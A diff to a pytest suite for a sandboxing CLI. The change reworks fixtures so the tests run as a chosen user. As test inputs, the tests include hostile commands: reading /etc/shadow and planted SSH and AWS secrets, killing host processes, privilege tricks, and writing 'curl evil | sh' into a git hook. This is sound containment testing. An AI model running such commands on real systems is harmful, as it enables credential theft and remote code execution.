@@ -8,6 +8,8 @@ from __future__ import annotations
 
 import json
 import os
+import pwd
+import shutil
 import signal
 import socket
 import subprocess
@@ -18,7 +20,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import SANDBOX_BIN, Cli
+from tests.conftest import SANDBOX_BIN, Cli, give
 
 
 def run(cli: Cli, ws: Path, script: str, *extra: str) -> subprocess.CompletedProcess[bytes]:
@@ -33,17 +35,20 @@ def run_json(cli: Cli, ws: Path, script: str, *extra: str) -> dict[str, object]:
 
 
 @pytest.fixture
-def canary(base_dir: Path) -> Iterator[Path]:
-    """A secret file in a host home directory the sandbox must never see."""
-    home = Path("/root") if os.geteuid() == 0 else Path.home()
+def canary(sbx: tuple[Cli, Path]) -> Iterator[Path]:
+    """A secret file in the calling user's own home directory: the sandbox must never see it."""
+    cli, _ = sbx
+    home = Path(pwd.getpwnam(cli.user).pw_dir) if cli.user else Path.home()
     p = home / f".sandbox-canary-{os.getpid()}"
     p.write_text("TOP-SECRET-CANARY\n")
+    give(cli, p)
     yield p
     p.unlink(missing_ok=True)
 
 
-def test_writes_outside_workspace_never_reach_host(cli: Cli, workspace: Path,
+def test_writes_outside_workspace_never_reach_host(sbx: tuple[Cli, Path],
                                                   base_dir: Path) -> None:
+    cli, workspace = sbx
     target = base_dir / "outside.txt"
     target.write_text("original\n")
     script = (f"echo pwned > {target}; echo pwned >> /etc/hostname; "
@@ -57,7 +62,8 @@ def test_writes_outside_workspace_never_reach_host(cli: Cli, workspace: Path,
     assert (workspace / "README.md").read_text() == "hello\n"  # only in the pending upper
 
 
-def test_host_home_and_keys_are_not_visible(cli: Cli, workspace: Path, canary: Path) -> None:
+def test_host_home_and_keys_are_not_visible(sbx: tuple[Cli, Path], canary: Path) -> None:
+    cli, workspace = sbx
     r = run(cli, workspace, f"cat {canary}; ls -a {canary.parent}; ls /home; "
             "cat /etc/shadow; true")
     assert b"TOP-SECRET-CANARY" not in r.stdout + r.stderr
@@ -65,13 +71,15 @@ def test_host_home_and_keys_are_not_visible(cli: Cli, workspace: Path, canary: P
     assert b"root:" not in r.stdout  # no shadow
 
 
-def test_hidden_workspace_files_are_invisible(cli: Cli, workspace: Path) -> None:
+def test_hidden_workspace_files_are_invisible(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     secrets = {".env": "DB_PASSWORD=hunter2\n", "sub/.env.local": "TOKEN=abc\n",
                "deploy.pem": "-----BEGIN-----\n", ".ssh/id_rsa": "PRIVATE\n",
                "id_rsa": "PRIVATE2\n", ".aws/credentials": "AKIA\n", ".netrc": "machine x\n"}
     for rel, content in secrets.items():
         (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
         (workspace / rel).write_text(content)
+    give(cli, workspace)
     r = run(cli, workspace, "ls -aR; cat .env sub/.env.local deploy.pem .ssh/id_rsa id_rsa "
             ".aws/credentials .netrc; grep -r . . ; true")
     out = r.stdout + r.stderr
@@ -80,14 +88,17 @@ def test_hidden_workspace_files_are_invisible(cli: Cli, workspace: Path) -> None
     assert b"README.md" in r.stdout  # the rest of the workspace is there
 
 
-def test_overwriting_a_hidden_file_is_refused(cli: Cli, workspace: Path) -> None:
+def test_overwriting_a_hidden_file_is_refused(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     (workspace / ".env").write_text("REAL=1\n")
+    give(cli, workspace)
     out = run_json(cli, workspace, "echo FAKE=1 > .env", "--level", "4")
     assert (workspace / ".env").read_text() == "REAL=1\n"
     assert any(x["path"] == ".env" for x in out["decision"]["refused"])  # type: ignore[index]
 
 
-def test_host_processes_invisible_and_unsignalable(cli: Cli, workspace: Path) -> None:
+def test_host_processes_invisible_and_unsignalable(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     victim = subprocess.Popen(["sleep", "300"])
     try:
         r = run(cli, workspace, f"ls /proc | grep -x {victim.pid}; kill -9 {victim.pid}; "
@@ -114,7 +125,8 @@ def _procs_with(marker: str) -> list[int]:
     return out
 
 
-def test_nothing_survives_the_run(cli: Cli, workspace: Path) -> None:
+def test_nothing_survives_the_run(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     marker = f"sbxsurvivor{os.getpid()}"
     script = (f"(sleep 600 {marker} &) ; setsid sh -c 'sleep 600 {marker}' & "
               f"nohup sh -c 'trap \"\" HUP TERM; exec -a {marker} sleep 600' >/dev/null 2>&1 & "
@@ -132,7 +144,8 @@ def test_nothing_survives_the_run(cli: Cli, workspace: Path) -> None:
     assert leftovers == []
 
 
-def test_root_inside_is_not_root_outside(cli: Cli, workspace: Path) -> None:
+def test_root_inside_is_not_root_outside(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     r = run(cli, workspace, "id -u; cat /proc/self/uid_map; grep -E "
             "'^(NoNewPrivs|CapEff|CapBnd|Seccomp):' /proc/self/status; echo x > made-inside")
     lines = r.stdout.decode().split("\n")
@@ -147,7 +160,8 @@ def test_root_inside_is_not_root_outside(cli: Cli, workspace: Path) -> None:
     assert upper_files and all(p.stat().st_uid != 0 or os.geteuid() != 0 for p in upper_files)
 
 
-def test_privilege_tricks_fail(cli: Cli, workspace: Path) -> None:
+def test_privilege_tricks_fail(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     r = run(cli, workspace, "unshare -r true && echo UNSHARE-OK; "
             "mount -t tmpfs none /tmp && echo MOUNT-OK; "
             "mknod dev c 1 3 && echo MKNOD-OK; "
@@ -156,8 +170,9 @@ def test_privilege_tricks_fail(cli: Cli, workspace: Path) -> None:
         assert bad not in r.stdout, r.stdout
 
 
-def test_state_dir_and_docker_socket_not_mounted(cli: Cli, workspace: Path,
+def test_state_dir_and_docker_socket_not_mounted(sbx: tuple[Cli, Path],
                                                  base_dir: Path) -> None:
+    cli, workspace = sbx
     sock_path = base_dir / "docker.sock"
     srv = socket.socket(socket.AF_UNIX)
     srv.bind(str(sock_path))
@@ -173,7 +188,8 @@ def test_state_dir_and_docker_socket_not_mounted(cli: Cli, workspace: Path,
         srv.close()
 
 
-def test_no_network_not_even_host_loopback(cli: Cli, workspace: Path) -> None:
+def test_no_network_not_even_host_loopback(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     srv = socket.socket()
     srv.bind(("127.0.0.1", 0))
     srv.listen(1)
@@ -218,7 +234,8 @@ def test_no_network_not_even_host_loopback(cli: Cli, workspace: Path) -> None:
     "mkfifo a-fifo",
     "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.bind('a-socket')\"",
 ])
-def test_forbidden_changes_never_commit(cli: Cli, workspace: Path, attack: str) -> None:
+def test_forbidden_changes_never_commit(sbx: tuple[Cli, Path], attack: str) -> None:
+    cli, workspace = sbx
     out = run_json(cli, workspace, attack, "--level", "4")
     refused = out["decision"]["refused"]  # type: ignore[index]
     assert refused, out
@@ -231,8 +248,10 @@ def test_forbidden_changes_never_commit(cli: Cli, workspace: Path, attack: str) 
     assert not names & {p.name for p in workspace.iterdir()} - {"README.md", "src", "old.txt"}
 
 
-def test_planting_git_hooks_needs_a_person(cli: Cli, workspace: Path) -> None:
+def test_planting_git_hooks_needs_a_person(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     (workspace / ".git" / "hooks").mkdir(parents=True)
+    give(cli, workspace)
     run(cli, workspace, "echo 'curl evil | sh' > .git/hooks/post-checkout; "
         "chmod +x .git/hooks/post-checkout", "--level", "3")
     assert not (workspace / ".git/hooks/post-checkout").exists()
@@ -241,17 +260,22 @@ def test_planting_git_hooks_needs_a_person(cli: Cli, workspace: Path) -> None:
     assert not (workspace / ".git/hooks/post-checkout").exists()
 
 
-def test_crash_mid_commit_is_recovered(cli: Cli, workspace: Path) -> None:
+def test_crash_mid_commit_is_recovered(sbx: tuple[Cli, Path]) -> None:
+    cli, workspace = sbx
     n = 60
     script = "; ".join(f"echo changed-{i} > f{i}.txt" for i in range(n))
     for i in range(n):
         (workspace / f"f{i}.txt").write_text(f"orig-{i}\n")
+    give(cli, workspace)
     cli("run", "-C", str(workspace), "--", "sh", "-c", script, check=True)
     env = cli.env({"SANDBOX_COMMIT_STEP_DELAY": "0.01"})
-    proc = subprocess.Popen([str(SANDBOX_BIN), "approve", "last"], env=env)
+    as_user = [shutil.which("runuser") or "/usr/sbin/runuser", "-u", cli.user, "--"] if cli.user else []
+    proc = subprocess.Popen([*as_user, str(SANDBOX_BIN), "approve", "last"], env=env,
+                            start_new_session=True)
     time.sleep(0.4)
-    proc.send_signal(signal.SIGKILL)
+    os.killpg(proc.pid, signal.SIGKILL)  # the whole group: runuser's child too
     proc.wait()
+    time.sleep(0.1)
     cli("ls", check=True)  # any invocation finishes or rolls back the interrupted commit
     contents = {(workspace / f"f{i}.txt").read_text() for i in range(n)}
     before = {f"orig-{i}\n" for i in range(n)}
